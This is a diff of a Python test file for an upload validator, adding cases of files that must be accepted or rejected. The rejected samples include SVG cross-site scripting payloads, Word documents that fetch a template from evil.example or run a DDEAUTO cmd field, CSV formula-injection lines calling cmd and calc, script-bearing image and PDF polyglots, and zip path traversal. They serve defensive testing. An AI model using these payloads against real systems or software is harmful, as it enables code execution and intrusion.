@@ -13,25 +13,16 @@ import pytest
 from remit.errors import BadInput
 from remit.files import checks, reader
 from remit.files.kept_files import KeptFiles
-from tests.files.documents import PNG, docx, packed, pdf, xlsx
+from tests.files.documents import GIF, JPEG, PNG, WEBP, docx, packed, pdf, xlsx
 from tests.tables import for_each
 
-GOOD: Final = {
-    "report.pdf": pdf("Parks"),
-    "Brief an Özge.docx": docx("Parks"),
-    "prices.xlsx": xlsx(("Park", 2)),
-    "prices.csv": b"park,price\nLumphini,-3\nRama IX,+49 170 1\n",
-    "notes.md": b"# Parks\n",
-    "map.png": PNG,
-    "plan.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
-    "all.zip": packed({"a/notes.txt": b"x", "prices.csv": b"a,b\n"}),
-    "data.json": b'{"a": 1}',
-}
 _MACROS: Final = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}
-_REMOTE: Final = (
-    '<Relationships><Relationship Type="…/attachedTemplate" Target="https://evil.example/t.dotm"'
-    ' TargetMode="External"/></Relationships>'
-)
+
+
+def _related(kind: str, target: str, mode: str = "External") -> str:
+    """A list of parts with one that is elsewhere."""
+    one = f'<Relationship Type="u/{kind}" Target="{target}" TargetMode="{mode}"/>'
+    return f"<Relationships>{one}</Relationships>"
 
 
 def _encrypted() -> bytes:
@@ -62,13 +53,72 @@ def _link() -> bytes:
 
 
 def _packed_objects(
-    objects: bytes, name: bytes = b"/ObjStm", filters: bytes = b"/FlateDecode"
+    objects: bytes, name: bytes = b"/ObjStm", filters: bytes = b"/FlateDecode", before: bytes = b""
 ) -> bytes:
     """A PDF that hides objects in a compressed stream."""
     stream = zlib.compress(objects, 9)
-    head = b"9 0 obj\n<< /Type %s /Filter %s /Length %d >>" % (name, filters, len(stream))
+    said = before, name, filters, len(stream)
+    head = b"9 0 obj\n<< %s /Type %s /Filter %s /Length %d >>" % said
     whole = pdf("x")
     return whole.replace(b"xref\n0", head + b"\nstream\n" + stream + b"\nendstream\nxref\n0")
+
+
+GOOD: Final = {
+    "report.pdf": pdf("Parks"),
+    "Brief an Özge.docx": docx("Parks"),
+    "prices.xlsx": xlsx(("Park", 2)),
+    "prices.csv": b"park,price\nLumphini,-3\nRama IX,+49 170 1\n",
+    "notes.md": b"# Parks\n",
+    "map.png": PNG,
+    "map.gif": GIF,
+    "map.jpg": JPEG + JPEG + bytes(3),  # as cameras write a preview behind the picture
+    "map.webp": WEBP,
+    "plan.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
+    "drawn.svg": b'<!DOCTYPE svg><svg xmlns:x="u"><use x:href="#a" fill="url(\'#b\')"/>'
+    b'<image href="data:image/png;base64,AA"/></svg>',
+    "chart.docx": docx("x", {"word/embeddings/sheet.xlsx": xlsx(("Park", 2))}),
+    "link.docx": docx(
+        "x", {"word/_rels/document.xml.rels": _related("hyperlink", "https://a.test")}
+    ),
+    "packed.pdf": _packed_objects(b"<< /Type /Catalog >>", filters=b"[ /FlateDecode ]"),
+    "Console.txt": b"x",
+    "all.zip": packed({"a/notes.txt": b"x", "prices.csv": b"a,b\n"}),
+    "data.json": b'{"a": 1}',
+}
+
+
+def _svg(inner: bytes) -> bytes:
+    return b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="u">' + inner + b"</svg>"
+
+
+_MIXED: Final = b"/DecodeParms << /Predictor 12 /Columns 1 >> "
+_ACTIVE: Final = (
+    b'<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
+    b'<a x:href="&#106;avascript:alert(1)"/>',
+    b'<a x:href="java&#9;script:alert(1)"/>',
+    b'<a x:href="&#x68;ttps://evil.example/"/>',
+    b'<image href="ftp://evil.example/x"/>',
+    b'<use href="data:image/svg+xml;base64,AA"/>',
+    b"<style>@import '//evil.example/x.css'</style>",
+    b'<rect fill="url(https://evil.example/x#a)"/>',
+    b'<set attributeName="onclick" to="alert(1)"/>',
+    b'<?xml-stylesheet href="x.xsl"?>',
+)
+_RELS: Final = "word/_rels/settings.xml.rels"
+_AWAY: Final = "https://evil.example/t.dotm"
+_BAD_PARTS: Final = (  # a name, the parts of a document, and a word of the sentence
+    ("remote", {_RELS: _related("attachedTemplate", _AWAY)}, "from elsewhere"),
+    ("remote", {_RELS: _related("attached&#84;emplate", _AWAY, "Ext&#101;rnal")}, "from elsewhere"),
+    ("remote", {_RELS: _related("image", _AWAY)}, "from elsewhere"),
+    ("remote", {_RELS: _related("image", _AWAY).encode("utf-16")}, "definition"),
+    ("inner", {"word/embeddings/a.xlsm": b"PK"}, "macros or a program"),
+    ("inner", {"word/media/a.png": b"MZ\x90\0"}, "macros or a program"),
+    ("inner", {"word/embeddings/a.docx": docx("x", _MACROS)}, "macros or a program"),
+    ("inner", {"word/a.docx": docx("x", {"word/b.docx": docx("x")})}, "in each other"),
+    ("field", {"word/a.xml": "<instrText>D</instrText><instrText>DE x</instrText>"}, "a field"),
+    ("field", {"word/a.xml": '<fldSimple instr="DDEAUTO c:/cmd"/>'}, "a field"),
+    ("half", {_RELS: "<Relationships>"}, "not a whole document"),
+)
 
 
 # The name, the content, and a word of the sentence.
@@ -82,6 +132,10 @@ def _bad() -> tuple[tuple[str, bytes, str], ...]:
         (".hidden.pdf", pdf("x"), "dot or blank"),
         ("a" * 130 + ".pdf", pdf("x"), "longer than"),
         ("x | y].csv", b"a", "sign that no name"),
+        *(
+            (name, b"x", "a device of")
+            for name in ("CON.txt", "nul.tar.txt", "com1 .md", "Lpt\u00b2.md")
+        ),
         ("empty.txt", b"", "is empty"),
         ("large.txt", b"x" * (checks.MAX_BYTES + 1), "at most"),
         ("program.exe", b"MZ\x90", "a kind that is not sent"),
@@ -96,6 +150,20 @@ def _bad() -> tuple[tuple[str, bytes, str], ...]:
         ("polyglot.pdf", b"%PDF-1.4\n<html><script>x</script>\n%%EOF", "holds a script"),
         ("polyglot.png", PNG + b"%PDF-1.4", "a PDF at the same time"),
         ("polyglot.png", PNG + b"<script>alert(1)</script>", "holds a script"),
+        ("polyglot.png", PNG + b"MZ\x90\0", "behind the picture"),
+        ("polyglot.png", PNG + b"Rar!\x1a\x07\0", "an archive at the same time"),
+        ("polyglot.pdf", pdf("x") + b"MZ\x90\0", "not a whole PDF"),
+        ("polyglot.gif", b"GIF89a/*" + GIF[8:-1] + b"!\xfe\x0d*/=alert(1)/*\0;", "a script at"),
+        ("polyglot.gif", b"GIF89a=1;alert(1)", "a script at"),
+        ("polyglot.gif", GIF + b"fetch('/')", "behind the picture"),
+        ("polyglot.jpg", JPEG[:4] + b"/*" + JPEG[6:], "a script at"),
+        ("polyglot.jpg", JPEG + b"MZ\x90\0", "behind the picture"),
+        ("polyglot.webp", b"RIFF/*\0\0WEBPVP8 */=alert(1)", "a script at"),
+        ("half.gif", GIF[:-1], "not a whole picture"),
+        ("half.png", PNG[:-12], "not a whole picture"),
+        ("half.jpg", JPEG[:-2], "not a whole picture"),
+        ("many.jpg", b"\xff\xd8\xff\xd9" * 100_000 + b"x", "behind the picture"),
+        ("half.webp", WEBP[:-1], "not a whole picture"),
         ("half.pdf", pdf("x")[:200], "not a whole PDF"),
         ("locked.pdf", pdf("x", "/Encrypt 9 0 R"), "encrypted"),
         ("acts.pdf", pdf("x", "/OpenAction << /S /J#61vaScript >>"), "that acts"),
@@ -103,14 +171,20 @@ def _bad() -> tuple[tuple[str, bytes, str], ...]:
         ("acts.pdf", _packed_objects(b"<< /S /JavaScript /JS (x) >>"), "that acts"),
         ("acts.pdf", _packed_objects(b"/JS", b"/Obj#53tm"), "that acts"),
         ("acts.pdf", _packed_objects(b"/JS", filters=b"/LZWDecode"), "cannot be unpacked"),
+        ("acts.pdf", _packed_objects(b"2F4A53>", filters=b"[/FlateDecode /A]"), "unpacked"),
+        ("acts.pdf", _packed_objects(b"\0/\0J\0S", before=_MIXED), "cannot be unpacked"),
+        ("acts.pdf", _packed_objects(b"\0/\0J\0S", before=_MIXED + b"%9 0 obj <<\n"), "unpacked"),
+        ("acts.pdf", pdf("x", "/OpenAction << /S /GoToR /F (x) >>"), "that acts"),
         ("bomb.pdf", _packed_objects(b"0" * 120_000_000), "cannot be unpacked"),
         ("script.svg", b"<svg><script>alert(1)</script></svg>", "by its content"),
         ("script.svg", b"<svg onload='x()'></svg>", "script or loads"),
         ("loads.svg", b"<svg><image href='https://evil.example/x'/></svg>", "script or loads"),
+        *((f"{n}.svg", _svg(inner), "script or loads") for n, inner in enumerate(_ACTIVE)),
+        ("acts.csv", "\uff1dcmd|'/c calc'!A1\n".encode(), "formula"),
         ("acts.csv", b'a,=HYPERLINK("http://evil.example")\n', "formula"),
         ("acts.csv", b"=cmd|'/c calc'!A1\n", "formula"),
         ("macros.docx", docx("x", _MACROS), "macros"),
-        ("remote.docx", docx("x", {"word/_rels/settings.xml.rels": _REMOTE}), "from elsewhere"),
+        *((f"{name}.docx", docx("x", parts), word) for name, parts, word in _BAD_PARTS),
         (
             "entity.docx",
             docx("x", {"word/a.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}),
@@ -121,6 +195,8 @@ def _bad() -> tuple[tuple[str, bytes, str], ...]:
         ("twice.zip", _twice(), "fill a disk"),
         ("locked.zip", _encrypted(), "encrypted"),
         ("link.zip", _link(), "leads out"),
+        ("away.zip", packed({"C:/a.txt": b"x"}), "leads out"),
+        ("inner.zip", packed({"aux.txt": b"x"}), "a device of"),
         ("away.zip", packed({"../a.txt": b"x"}), "leads out"),
         ("inner.zip", packed({"setup.exe": b"MZ"}), "a program"),
         ("inner.zip", packed({"inner.zip": packed({"a.txt": b"x"})}), "holds an archive itself"),
@@ -185,6 +261,7 @@ def test_a_name_from_outside_leads_nowhere() -> None:
         "../../etc/passwd": "passwd",
         "C:\\x\\a.pdf": "a.pdf",
         "a\u202ecod.exe": "acod.exe",
+        "x/CON.txt": "_CON.txt",
         "\0": "file",
         "..": "file",
         "a|b[c].pdf": "a_b_c_.pdf",
